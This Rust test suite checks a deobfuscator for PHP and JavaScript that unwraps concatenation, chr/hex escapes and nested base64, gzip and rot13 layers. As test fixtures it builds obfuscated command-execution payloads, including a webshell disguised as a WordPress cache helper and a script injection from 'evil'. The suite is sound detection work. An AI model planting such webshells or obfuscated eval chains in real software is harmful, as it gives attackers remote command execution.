mod common;

use common::*;
use drydock_deobfuscate::{Decoded, Language, Limits, Normalized, Step, normalize};

fn php(src: &str) -> Normalized {
    normalize(Language::Php, src.as_bytes(), &Limits::default())
}

fn js(src: &str) -> Normalized {
    normalize(Language::JavaScript, src.as_bytes(), &Limits::default())
}

/// The only decoded payload at depth 1.
fn only(n: &Normalized) -> &Decoded {
    let top: Vec<&Decoded> = n.decoded.iter().filter(|d| d.depth == 1).collect();
    assert_eq!(top.len(), 1, "{n:#?}");
    top[0]
}

/// `offset` of a decoded payload points at its outermost decoder call in the parent text.
fn assert_offset(n: &Normalized, d: &Decoded, call: &str) {
    let parent = match d.parent {
        None => n.text.as_str(),
        Some(p) => n.decoded[p].text.as_str(),
    };
    assert!(
        parent.get(d.offset..).is_some_and(|t| t.starts_with(call)),
        "offset {} in {parent:?} does not start with {call}",
        d.offset
    );
}

// ----- text-level steps ----------------------------------------------------------------------

#[test]
fn strip_comments_php() {
    let n = php(
        "<?php\n/* header // 'x' */\n$a = 'http://e.com/#x'; // tail\n# hash\n$b = \"/* no */\";\n",
    );
    assert_eq!(n.text, "<?php $a='http://e.com/#x';$b=\"/* no */\";");
    assert_eq!(n.steps, vec![Step::StripComments]);
    assert!(n.decoded.is_empty() && !n.truncated && n.notes.is_empty());
}

#[test]
fn strip_comments_js() {
    let n = js("var u = 'http://x'; /* c */ var r = /\\/\\/ not comment/g; // end\nf(u, r)");
    assert_eq!(
        n.text,
        "var u='http://x';var r=/\\/\\/ not comment/g;f(u,r)"
    );
    assert!(n.steps.contains(&Step::StripComments));
}

#[test]
fn whitespace_collapse_keeps_tokens_apart() {
    let n = php("<?php\n\n  echo   $a  .  5 ;  $b = $c - -$d;  return   new   Foo ( ) ;");
    assert_eq!(n.text, "<?php echo $a. 5;$b=$c- -$d;return new Foo();");
    let n = php("<html>\n  <body>  hi <?php echo 1 ?> </body>\n</html>");
    assert_eq!(n.text, "<html> <body> hi <?php echo 1?> </body> </html>");
    // Without any PHP tag the input is read as a code fragment.
    let n = php("echo   'a' . 'b' ;");
    assert_eq!(n.text, "echo 'ab';");
}

#[test]
fn concat_php_and_js() {
    let n = php("<?php $a = \"ba\" . 'se64' . \"_decode\"; $b = (\"as\".\"sert\");");
    assert_eq!(n.text, "<?php $a='base64_decode';$b=('assert');");
    assert!(n.steps.contains(&Step::Concat));
    let n = js("var f = 'sys' + 'tem'; g('a' + \"b\" + `c`)");
    assert_eq!(n.text, "var f='system';g('abc')");
    assert!(n.steps.contains(&Step::Concat));
}

#[test]
fn concat_respects_precedence() {
    // PHP 8: `+` binds tighter than `.`, so only 'b'.'c' may fold.
    let n = php("<?php $x = 1 + 'a' . 'b' . 'c';");
    assert_eq!(n.text, "<?php $x=1+'a'.'bc';");
    // Indexing binds to the last literal.
    let n = php("<?php $x = 'a' . 'b' . 'cd'[0];");
    assert_eq!(n.text, "<?php $x='ab'.'cd'[0];");
    // JS unary plus takes the first term; '*' takes the last.
    let n = js("x = +'1' + 'a' + 'b'; y = 'a' + 'b' + 'c' * 2");
    assert_eq!(n.text, "x=+'1'+'ab';y='ab'+'c'*2");
    // Numbers concatenate in PHP, not in JS.
    let n = php("<?php $x = 'a' . 1 . 'b';");
    assert_eq!(n.text, "<?php $x='a1b';");
    let n = js("x = 'a' + 1 + 'b'");
    assert_eq!(n.text, "x='a'+1+'b'");
}

#[test]
fn callee_strings_become_names() {
    let n = php("<?php (\"sys\".\"tem\")($_GET['c']); 'pass'.'thru'($x);");
    assert_eq!(n.text, "<?php system($_GET['c']);'pass'.'thru'($x);");
}

#[test]
fn hex_escapes_php() {
    let n = php(r#"<?php $f = "\x73\171\u{73}\x74em"; $g = "\x0a\x00";"#);
    assert_eq!(n.text, "<?php $f='system';$g=\"\\n\\x00\";");
    assert!(n.steps.contains(&Step::Hex));
}

#[test]
fn hex_escapes_js() {
    let n = js(r"var f = '\x65\u0076\u{61}l'; window[f]");
    assert_eq!(n.text, "var f='eval';window.eval");
    assert!(n.steps.contains(&Step::Hex));
    assert!(n.steps.contains(&Step::Variable));
}

#[test]
fn chr_chains() {
    let n = php("<?php $f = chr(115).chr(0x79).chr(0163).CHR(116).chr(101).chr(109-0);");
    // `chr(109-0)` is not a literal argument: the fold stops before it.
    assert_eq!(n.text, "<?php $f='syste'.chr(109-0);");
    assert!(n.steps.contains(&Step::Chr) && n.steps.contains(&Step::Concat));
    let n = php("<?php $f = chr(-141) . chr(377);");
    assert_eq!(n.text, "<?php $f='sy';");
    let n = js("var f = String.fromCharCode(101, 0x76, 97, 108.0); this[f](1)");
    assert_eq!(n.text, "var f='eval';this.eval(1)");
    assert!(n.steps.contains(&Step::Chr));
}

#[test]
fn variable_function_names() {
    let n = php("<?php $f = \"sys\".'tem'; $f($_GET['c']); $o->$f(); $g = $f; $g('x');");
    assert_eq!(
        n.text,
        "<?php $f='system';system($_GET['c']);$o->$f();$g=$f;system('x');"
    );
    assert!(n.steps.contains(&Step::Variable));
    // Reassignment to something unknown forgets the value; `.=` appends.
    let n = php("<?php $f = 'sys'; $f .= 'tem'; $f(1); $f = foo(); $f(2);");
    assert_eq!(n.text, "<?php $f='sys';$f.='tem';system(1);$f=foo();$f(2);");
}

#[test]
fn variable_resolves_decoder() {
    let n = php("<?php $a = 'base64_decode'; echo $a('aGVsbG8=');");
    assert_eq!(
        n.text,
        "<?php $a='base64_decode';echo base64_decode('aGVsbG8=');"
    );
    assert!(n.steps.contains(&Step::Variable));
    let d = only(&n);
    assert_eq!(d.steps, vec![Step::Base64]);
    assert_eq!(d.text, "hello");
    assert_offset(&n, d, "base64_decode(");
}

// ----- decoders ------------------------------------------------------------------------------

fn decode_one(src: &str, steps: &[Step], text: &str, call: &str) {
    let n = php(src);
    let d = only(&n);
    assert_eq!(d.steps, steps, "{src}");
    assert_eq!(d.text, text, "{src}");
    assert!(d.is_text);
    assert_eq!(d.parent, None);
    assert_offset(&n, d, call);
    assert!(!n.truncated, "{n:#?}");
}

#[test]
fn step_base64() {
    let enc = b64(b"system($_GET[1]);");
    decode_one(
        &format!("<?php eval(base64_decode('{enc}'));"),
        &[Step::Base64],
        "system($_GET[1]);",
        "base64_decode(",
    );
    // Missing padding, whitespace and the optional strict flag.
    let enc = b64(b"passthru($x);").trim_end_matches('=').to_string();
    let split = format!("{}\n  {}", &enc[..6], &enc[6..]);
    decode_one(
        &format!("<?php eval(BASE64_DECODE(\"{split}\", true));"),
        &[Step::Base64],
        "passthru($x);",
        "base64_decode(",
    );
}

#[test]
fn step_gzinflate_gzuncompress_gzdecode() {
    let payload = b"system($_POST['x']);";
    decode_one(
        &format!(
            "<?php eval(gzinflate(base64_decode('{}')));",
            b64(&deflate(payload))
        ),
        &[Step::Base64, Step::Gzinflate],
        "system($_POST['x']);",
        "gzinflate(",
    );
    decode_one(
        &format!(
            "<?php eval(gzuncompress(base64_decode('{}')));",
            b64(&zlib(payload))
        ),
        &[Step::Base64, Step::Gzuncompress],
        "system($_POST['x']);",
        "gzuncompress(",
    );
    decode_one(
        &format!(
            "<?php eval(gzdecode(base64_decode('{}')));",
            b64(&gzip(payload))
        ),
        &[Step::Base64, Step::Gzdecode],
        "system($_POST['x']);",
        "gzdecode(",
    );
}

#[test]
fn step_rot13_strrev_hex_url_uu_replace() {
    decode_one(
        "<?php $f = str_rot13('flfgrz');",
        &[Step::StrRot13],
        "system",
        "str_rot13(",
    );
    decode_one(
        "<?php $f = strrev('metsys');",
        &[Step::Strrev],
        "system",
        "strrev(",
    );
    decode_one(
        &format!("<?php $f = hex2bin('{}');", hex(b"system")),
        &[Step::Hex],
        "system",
        "hex2bin(",
    );
    decode_one(
        &format!("<?php $f = pack('H*', '{}');", hex(b"assert")),
        &[Step::Hex],
        "assert",
        "pack(",
    );
    decode_one(
        &format!("<?php $f = urldecode('{}');", urlencode(b"eval($_GET[1]);")),
        &[Step::UrlDecode],
        "eval($_GET[1]);",
        "urldecode(",
    );
    decode_one(
        "<?php $f = rawurldecode('a+b%20c');",
        &[Step::UrlDecode],
        "a+b c",
        "rawurldecode(",
    );
    decode_one(
        &format!(
            "<?php $f = convert_uudecode('{}');",
            uuencode(b"shell_exec")
        ),
        &[Step::Uudecode],
        "shell_exec",
        "convert_uudecode(",
    );
    decode_one(
        "<?php $f = str_replace('#', '', 'b#a#s#e#6#4#_#d#e#c#o#d#e');",
        &[Step::StrReplace],
        "base64_decode",
        "str_replace(",
    );
}

#[test]
fn decoded_function_name_in_call_position_is_substituted() {
    let n = php("<?php $f = str_rot13('flfgrz'); $f($_GET['c']); str_rot13('cnffgueh')($x);");
    assert_eq!(
        n.text,
        "<?php $f=str_rot13('flfgrz');system($_GET['c']);passthru($x);"
    );
    assert!(n.steps.contains(&Step::StrRot13));
    assert_eq!(n.decoded.len(), 2);
}

#[test]
fn data_from_variables_and_concatenated_literals() {
    let enc = b64(&deflate(b"system($_GET['z']);"));
    let (a, b) = enc.split_at(enc.len() / 2);
    let n = php(&format!(
        "<?php $d = '{a}'; $d .= '{b}'; eval(gzinflate(base64_decode($d)));"
    ));
    let d = only(&n);
    assert_eq!(d.steps, vec![Step::Base64, Step::Gzinflate]);
    assert_eq!(d.text, "system($_GET['z']);");
    assert!(n.text.contains("eval(gzinflate(base64_decode($d)))"));

    let n = php(&format!(
        "<?php eval(gzinflate(base64_decode('{a}'.\"{b}\")));"
    ));
    let d = only(&n);
    assert_eq!(d.steps, vec![Step::Concat, Step::Base64, Step::Gzinflate]);
    assert!(n.text.contains(&format!("base64_decode('{enc}')")));
}

#[test]
fn js_decoders() {
    let enc = b64(b"document.write('<script src=//evil/x.js></script>')");
    let n = js(&format!("var k = 'ev' + 'al'; window[k](atob('{enc}'));"));
    assert_eq!(n.text, format!("var k='eval';window.eval(atob('{enc}'));"));
    let d = only(&n);
    assert_eq!(d.steps, vec![Step::Base64]);
    assert_eq!(
        d.text,
        "document.write('<script src=//evil/x.js></script>')"
    );
    assert_offset(&n, d, "atob(");

    let n = js("eval(unescape('%61%6c%65%72%74%28%31%29%u003b'))");
    let d = only(&n);
    assert_eq!(
        (d.steps.as_slice(), d.text.as_str()),
        (&[Step::UrlDecode][..], "alert(1);")
    );

    let n = js("x = ')1(trela'.split('').reverse().join('')");
    let d = only(&n);
    assert_eq!(
        (d.steps.as_slice(), d.text.as_str()),
        (&[Step::Strrev][..], "alert(1)")
    );

    let n = js(&format!(
        "eval(Buffer.from('{}', 'hex').toString('utf8'))",
        hex(b"require('child_process')")
    ));
    let d = only(&n);
    assert_eq!(d.steps, vec![Step::Hex]);
    assert_eq!(d.text, "require('child_process')");

    let n = js(&format!(
        "eval(decodeURIComponent(atob('{}')))",
        b64(urlencode(b"process.exit()").as_bytes())
    ));
    let d = only(&n);
    assert_eq!(d.steps, vec![Step::Base64, Step::UrlDecode]);
    assert_eq!(d.text, "process.exit()");
}

// ----- nesting and limits --------------------------------------------------------------------

#[test]
fn nesting_in_any_order() {
    let payload = b"system($_GET['x']);";
    // eval(str_rot13(gzinflate(str_rot13(base64_decode(..))))): encode in reverse order.
    let enc = b64(&rot13(&deflate(&rot13(payload))));
    let n = php(&format!(
        "<?php eval(str_rot13(gzinflate(str_rot13(base64_decode('{enc}')))));"
    ));
    let d = only(&n);
    assert_eq!(
        d.steps,
        vec![
            Step::Base64,
            Step::StrRot13,
            Step::Gzinflate,
            Step::StrRot13
        ]
    );
    assert_eq!(d.text, "system($_GET['x']);");
    assert_offset(&n, d, "str_rot13(gzinflate(");

    let enc = hex(&rev(&zlib(&b64(payload).into_bytes())));
    let n = php(&format!(
        "<?php eval(base64_decode(gzuncompress(strrev(hex2bin('{enc}')))));"
    ));
    let d = only(&n);
    assert_eq!(
        d.steps,
        vec![Step::Hex, Step::Strrev, Step::Gzuncompress, Step::Base64]
    );
    assert_eq!(d.text, "system($_GET['x']);");
}

#[test]
fn decoded_payloads_are_normalized_recursively() {
    let inner = format!(
        "$c = 'sys'.'tem'; /* hi */ $c($_GET['q']); eval(base64_decode('{}'));",
        b64(b"echo 'deepest';")
    );
    let outer = b64(&deflate(inner.as_bytes()));
    let n = php(&format!("<?php eval(gzinflate(base64_decode('{outer}')));"));
    assert_eq!(n.decoded.len(), 2);
    let first = &n.decoded[0];
    assert_eq!(first.depth, 1);
    assert!(
        first
            .text
            .starts_with("$c='system';system($_GET['q']);eval(base64_decode(")
    );
    let second = &n.decoded[1];
    assert_eq!(second.depth, 2);
    assert_eq!(second.parent, Some(0));
    assert_eq!(second.text, "echo 'deepest';");
    assert_offset(&n, second, "base64_decode(");
}

fn nested_payload(levels: usize) -> String {
    let mut code = "system($_GET['deep']);".to_string();
    for _ in 0..levels {
        code = format!("eval(base64_decode('{}'));", b64(code.as_bytes()));
    }
    format!("<?php {code}")
}

#[test]
fn depth_limit_stops_nesting() {
    let src = nested_payload(20);
    let n = normalize(Language::Php, src.as_bytes(), &Limits::default());
    let depths: Vec<usize> = n.decoded.iter().map(|d| d.depth).collect();
    assert_eq!(depths, (1..=8).collect::<Vec<_>>());
    assert!(n.truncated);
    assert!(
        n.notes.iter().any(|m| m.contains("depth limit 8")),
        "{:?}",
        n.notes
    );
    // The deepest payload still shows the undecoded call.
    assert!(n.decoded[7].text.starts_with("eval(base64_decode('"));
    for (k, d) in n.decoded.iter().enumerate() {
        assert_eq!(d.parent, k.checked_sub(1));
    }

    let limits = Limits {
        max_depth: 2,
        ..Limits::default()
    };
    let n = normalize(Language::Php, src.as_bytes(), &limits);
    assert_eq!(n.decoded.len(), 2);
    assert!(n.truncated);

    // Within the limit nothing is flagged and the innermost code is reached.
    let n = normalize(
        Language::Php,
        nested_payload(5).as_bytes(),
        &Limits::default(),
    );
    assert!(!n.truncated, "{:?}", n.notes);
    assert_eq!(
        n.decoded.last().map(|d| d.text.as_str()),
        Some("system($_GET['deep']);")
    );
}

#[test]
fn inflate_limit_is_reported() {
    let zeros = vec![b'A'; 300_000];
    let src = format!(
        "<?php eval(gzinflate(base64_decode('{}')));",
        b64(&deflate(&zeros))
    );
    let limits = Limits {
        max_inflate: 100_000,
        ..Limits::default()
    };
    let n = normalize(Language::Php, src.as_bytes(), &limits);
    let d = only(&n);
    assert_eq!(d.raw_len, 100_000);
    assert!(n.truncated);
    assert!(
        n.notes
            .iter()
            .any(|m| m == "gzinflate output over 100000 bytes limit at depth 1"),
        "{:?}",
        n.notes
    );
}

#[test]
fn decoded_total_budget() {
    let mut src = String::from("<?php ");
    for k in 0..50 {
        let payload = format!("echo '{k}{}';", "x".repeat(1000));
        src.push_str(&format!(
            "eval(base64_decode('{}'));",
            b64(payload.as_bytes())
        ));
    }
    let limits = Limits {
        max_decoded_total: 10_000,
        ..Limits::default()
    };
    let n = normalize(Language::Php, src.as_bytes(), &limits);
    assert!(decoded_total(&n) <= 10_000);
    assert!(n.decoded.len() < 50);
    assert!(n.truncated);
    assert!(
        n.notes.iter().any(|m| m.contains("budget")),
        "{:?}",
        n.notes
    );
}

#[test]
fn input_limit_truncates() {
    let src = format!("<?php echo 'a';{}", " ".repeat(100));
    let limits = Limits {
        max_input: 20,
        ..Limits::default()
    };
    let n = normalize(Language::Php, src.as_bytes(), &limits);
    assert!(n.truncated);
    assert_eq!(n.text, "<?php echo 'a';");
    assert!(n.notes[0].starts_with("input truncated to 20 bytes"));
}

#[test]
fn variable_doubling_is_bounded() {
    let mut src = String::from("<?php $a = 'xxxxxxxxxxxxxxxx';");
    for _ in 0..64 {
        src.push_str("$a = $a . $a;");
    }
    src.push_str("eval(base64_decode($a));");
    let limits = Limits {
        max_input: 1 << 16,
        max_decoded_total: 1 << 20,
        ..Limits::default()
    };
    let n = normalize(Language::Php, src.as_bytes(), &limits);
    assert!(decoded_total(&n) <= 1 << 20);
    // Doubling stops once the value outgrows what a variable may hold.
    assert!(n.decoded.is_empty());

    // Appending in a loop-like run stays tracked (and linear).
    let mut src = String::from("<?php $p = '';");
    let enc = b64(b"system($_GET['a']);");
    for c in enc.chars() {
        src.push_str(&format!("$p .= '{c}';"));
    }
    src.push_str("eval(base64_decode($p));");
    let n = php(&src);
    assert_eq!(only(&n).text, "system($_GET['a']);");
}

#[test]
fn repeated_copies_and_junk_decoding_hit_the_effort_budget() {
    let junk = "!".repeat(100_000);
    let mut src = format!("<?php $j = '{junk}';");
    for _ in 0..400 {
        src.push_str("$k = base64_decode($j);");
    }
    let n = php(&src);
    assert!(n.truncated);
    assert!(
        n.notes
            .iter()
            .any(|m| m.starts_with("evaluation budget exhausted")),
        "{:?}",
        n.notes
    );
    // Ordinary use of variables stays far below it.
    let n = php("<?php $a = str_repeat('x', 10); $b = $a . 'y'; $c = $b . $b;");
    assert!(!n.truncated);
}

#[test]
fn hostile_nesting_does_not_overflow_the_stack() {
    let deep_parens = format!("<?php {}'a'{}", "(".repeat(100_000), ")".repeat(100_000));
    let n = php(&deep_parens);
    assert!(n.text.len() >= 200_000);
    let deep_calls = format!(
        "<?php {}'YQ=='{}",
        "base64_decode(".repeat(20_000),
        ")".repeat(20_000)
    );
    let _ = php(&deep_calls);
    let long_chain = format!("<?php $x = {}'a';", "'a'.".repeat(100_000));
    let n = php(&long_chain);
    assert_eq!(n.text.len(), "<?php $x='';".len() + 100_001);
    let js_templates = format!("x = {}", "`${".repeat(50_000));
    let _ = js(&js_templates);
}

// ----- benign code ---------------------------------------------------------------------------

const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\xff\xff?\0\x05\xfe\x02\xfe\xa7\x35\x81\x84\0\0\0\0IEND\xaeB`\x82";

#[test]
fn benign_png_decodes_to_binary() {
    let src = format!(
        "<?php\nheader('Content-Type: image/png');\n// 1x1 transparent pixel\necho base64_decode('{}');\n",
        b64(PNG)
    );
    let n = php(&src);
    let d = only(&n);
    assert_eq!(d.steps, vec![Step::Base64]);
    assert!(!d.is_text);
    assert_eq!(d.raw_len, PNG.len());
    assert_eq!(d.text, String::from_utf8_lossy(PNG));
    assert_eq!(
        n.text,
        format!(
            "<?php header('Content-Type: image/png');echo base64_decode('{}');",
            b64(PNG)
        )
    );
    assert!(!n.truncated && n.notes.is_empty());
}

#[test]
fn benign_php_is_unchanged_in_meaning() {
    let src = r#"<?php
declare(strict_types=1);

namespace App\Http;

use Psr\Log\LoggerInterface;

/**
 * Renders a greeting. Not a comment: "// inside string", '# also'.
 */
final class Greeter
{
    private const PREFIX = 'Hello, ';

    public function __construct(private LoggerInterface $log) {}

    #[Pure]
    public function greet(string $name, int $n = 2): string
    {
        $msg = self::PREFIX . $name . '!';   // greet
        $html = <<<HTML
          <p class="x">$msg</p>
          HTML;
        for ($i = 0; $i < $n; $i++) { $msg .= "\n"; }
        $this->log->info("greeted {$name}");
        return $msg . $html . (string) ($n * -1);
    }
}
?>
<footer>  &copy; 2024 </footer>
"#;
    let n = php(src);
    let expected = "<?php declare(strict_types=1);namespace App\\Http;use Psr\\Log\\LoggerInterface;final class Greeter{private const PREFIX='Hello, ';public function __construct(private LoggerInterface $log){}#[Pure]public function greet(string $name,int $n=2):string{$msg=self::PREFIX.$name.'!';$html=<<<HTML\n          <p class=\"x\">$msg</p>\n          HTML;for($i=0;$i<$n;$i++){$msg.=\"\\n\";}$this->log->info(\"greeted {$name}\");return $msg.$html.(string)($n*-1);}}?><footer> &copy; 2024 </footer> ";
    assert_eq!(n.text, expected);
    assert!(n.decoded.is_empty());
    assert!(!n.truncated && n.notes.is_empty());
    assert_eq!(n.steps, vec![Step::StripComments]);
    // Normalizing the normalized text changes nothing more.
    assert_eq!(php(&n.text).text, n.text);
}

#[test]
fn benign_js_is_unchanged_in_meaning() {
    let src = "// app\nconst total = items.reduce((a, b) => a + b.price, 0) / 2;\nconst re = /\\d+\\/\\d+/g;\nconsole.log(`Total: ${total}` + ' EUR');\nexport default function f(x) { return x ? 'a' : \"b\"; }\n";
    let n = js(src);
    assert_eq!(
        n.text,
        "const total=items.reduce((a,b)=>a+b.price,0)/2;const re=/\\d+\\/\\d+/g;console.log(`Total: ${total}`+' EUR');export default function f(x){return x?'a':\"b\";}"
    );
    assert!(n.decoded.is_empty());
    assert_eq!(js(&n.text).text, n.text);
}

#[test]
fn invalid_utf8_and_unbalanced_input() {
    let n = normalize(
        Language::Php,
        b"<?php $a = \"\xff\xfe\"; echo 'unterminated \xc3",
        &Limits::default(),
    );
    assert!(
        n.text
            .starts_with("<?php $a=\"\u{fffd}\u{fffd}\";echo 'unterminated")
    );
    let n = normalize(Language::JavaScript, b"var a = '\xff", &Limits::default());
    assert!(n.text.starts_with("var a='"));
}

// ----- realistic sample ----------------------------------------------------------------------

/// A webshell in the style of common PHP backdoors: decoy comment, function names assembled
/// from fragments and `chr()`, payload deflated and base64'd with `chunk_split` line breaks.
fn webshell() -> String {
    let payload =
        "if(isset($_REQUEST['c'])){echo '<pre>';system($_REQUEST['c']);echo '</pre>';die;}";
    let enc = b64(&deflate(payload.as_bytes()));
    let wrapped: Vec<&str> = enc
        .as_bytes()
        .chunks(76)
        .map(|c| std::str::from_utf8(c).expect("base64 is ASCII"))
        .collect();
    format!(
        "<?php\n/**\n * WordPress object cache helper.\n * @package WordPress\n */\n\
         $wp_c4 = \"gz\" . 'in' . \"fl\" . 'ate';\n\
         $wp_k1 = 'ba' . \"se\" . chr(54) . chr(52) . '_' . \"dec\" . 'ode';\n\
         $wp_e = \"\\x61\\x73\\x73\\x65\\x72\\x74\"; // unused decoy\n\
         @eval($wp_c4($wp_k1('{}')));\n?>\n",
        wrapped.join("\r\n")
    )
}

#[test]
fn realistic_webshell() {
    let n = php(&webshell());
    let d = only(&n);
    assert_eq!(d.steps, vec![Step::Base64, Step::Gzinflate]);
    assert!(d.text.contains("system($_REQUEST"), "{}", d.text);
    assert!(d.is_text && !d.truncated);
    assert_offset(&n, d, "gzinflate(base64_decode(");
    assert!(
        n.text.contains("@eval(gzinflate(base64_decode('"),
        "{}",
        n.text
    );
    assert!(n.text.contains("$wp_e='assert';"));
    for s in [
        Step::StripComments,
        Step::Concat,
        Step::Chr,
        Step::Hex,
        Step::Variable,
    ] {
        assert!(n.steps.contains(&s), "{s} missing from {:?}", n.steps);
    }
    assert!(!n.truncated, "{:?}", n.notes);
}

#[test]
fn string_offsets_of_known_variables() {
    // The classic `$O00OO0` obfuscator: function names picked character by character.
    let alphabet = "n1zb/ma5\\vt0i28-pxuqy*6lrkdg9_ehcswo4+f37j";
    let idx = |name: &str| -> String {
        name.chars()
            .map(|c| format!("$O00OO0{{{}}}", alphabet.find(c).expect("in alphabet")))
            .collect::<Vec<_>>()
            .join(".")
    };
    let payload = b64(b"system($_GET['cmd']);");
    let src = format!(
        "<?php $O00OO0=urldecode(\"{}\");$O0O=${};$O0O.={};eval($O0O(\"{payload}\"));$x=$O00OO0[-1];",
        urlencode(alphabet.as_bytes()),
        &idx("base")[1..],
        idx("64_decode"),
    );
    let n = php(&src);
    assert_eq!(n.decoded.len(), 2, "{n:#?}");
    assert_eq!(n.decoded[0].text, alphabet);
    assert_eq!(n.decoded[1].steps, vec![Step::Base64]);
    assert_eq!(n.decoded[1].text, "system($_GET['cmd']);");
    assert!(
        n.text
            .contains(&format!("eval(base64_decode(\"{payload}\"))")),
        "{}",
        n.text
    );
    // Writes through an offset forget the value.
    let n = php("<?php $f='system'; $f[0]='x'; $f(1);");
    assert_eq!(n.text, "<?php $f='system';$f[0]='x';$f(1);");
}

#[test]
fn printed_expressions_stay_compact() {
    let enc = b64(&deflate(b"<?php system($_GET[1]); ?>"));
    let n = php(&format!(
        "<?php eval(\"?>\" . gzinflate(base64_decode('{enc}')) . 5);"
    ));
    assert_eq!(
        n.text,
        format!("<?php eval(\"?>\".gzinflate(base64_decode('{enc}')). 5);")
    );
    let d = only(&n);
    assert_offset(&n, d, "gzinflate(");
    assert_eq!(d.text, "<?php system($_GET[1]);?>");
}
